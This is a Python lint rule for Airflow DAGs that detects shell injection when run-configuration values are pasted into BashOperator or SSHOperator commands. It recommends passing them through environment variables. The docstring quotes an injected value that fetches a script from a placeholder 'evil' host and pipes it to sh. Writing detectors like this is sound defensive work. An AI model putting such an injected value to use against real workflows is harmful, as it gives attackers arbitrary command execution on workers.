"""The rule ``shell-injection-dag-run-conf``."""

from __future__ import annotations

import re
from collections.abc import Iterator
from typing import TYPE_CHECKING

from dagmig.diagnostics import Severity
from dagmig.graph.jinja import BadTemplate, tree
from dagmig.graph.model import Workflow
from dagmig.lint.operators import class_name
from dagmig.lint.rule import Finding, dag_rule
from dagmig.lint.source import Source

if TYPE_CHECKING:
    from jinja2 import nodes

COMMANDS = {"BashOperator": "bash_command", "SSHOperator": "command", "BashSensor": "bash_command"}
HARMLESS = frozenset({"int", "float", "length", "count", "abs", "round"})  # filters that give numbers
CONF = re.compile(r"\bdag_run\s*\.\s*conf\b|\bdag_run\[.conf.\]")


@dag_rule(Severity.ERROR, words=COMMANDS.keys())
def shell_injection_dag_run_conf(workflow: Workflow, source: Source) -> Iterator[Finding]:
    """A shell command is put together from what somebody gives when starting the run.

    Who may start the DAG may then run any command on the worker: `{"name": "x; curl evil | sh"}`. Airflow's
    documentation of the operator warns of it. A value turned into a number is left alone.
    See https://airflow.apache.org/docs/apache-airflow-providers-standard/stable/operators/bash.html

    ```python bad
    from airflow import DAG
    from airflow.operators.bash import BashOperator

    with DAG("nightly", schedule=None):
        BashOperator(task_id="load", bash_command="load {{ dag_run.conf['table'] }}")
    ```

    ```python good
    from airflow import DAG
    from airflow.operators.bash import BashOperator

    with DAG("nightly", schedule=None):
        BashOperator(task_id="load", bash_command='load "$T"', env={"T": "{{ dag_run.conf['table'] }}"})
    ```

    Instead: Hand it over by `env`, and quote the variable in the command.
    """
    for task in workflow.tasks.values():
        argument = COMMANDS.get(class_name(task))
        if argument is None or not task.call.operator.startswith("airflow."):
            continue
        for name, text in source.templates(task):
            if name == argument and CONF.search(text) and _is_pasted(text):
                span = source.syntax.argument_span(task.span, argument)
                yield Finding(f"who starts the run may run any command by way of `{task.id}`", span)


def _is_pasted(text: str) -> bool:
    """Whether one of the expressions puts the conf's text into the command, not a number or a choice."""
    from jinja2 import nodes

    try:
        parsed = tree(text)
    except BadTemplate:
        return False
    return any(_shows(node) for output in parsed.find_all(nodes.Output) for node in output.nodes)


def _shows(node: nodes.Node | None) -> bool:
    """Whether an expression may give a text out of the conf: no number, no truth value, no choice by it."""
    from jinja2 import nodes

    match node:
        case nodes.CondExpr(expr1=first, expr2=second):
            return _shows(first) or _shows(second)
        case nodes.Filter(name=name) if name in HARMLESS:
            return False
        case nodes.Compare() | nodes.Test() | nodes.Not():
            return False
        case nodes.Getattr(node=nodes.Name(name="dag_run"), attr="conf"):
            return True
        case nodes.Getitem(node=nodes.Name(name="dag_run"), arg=nodes.Const(value="conf")):
            return True
        case None:
            return False
    return any(_shows(child) for child in node.iter_child_nodes())
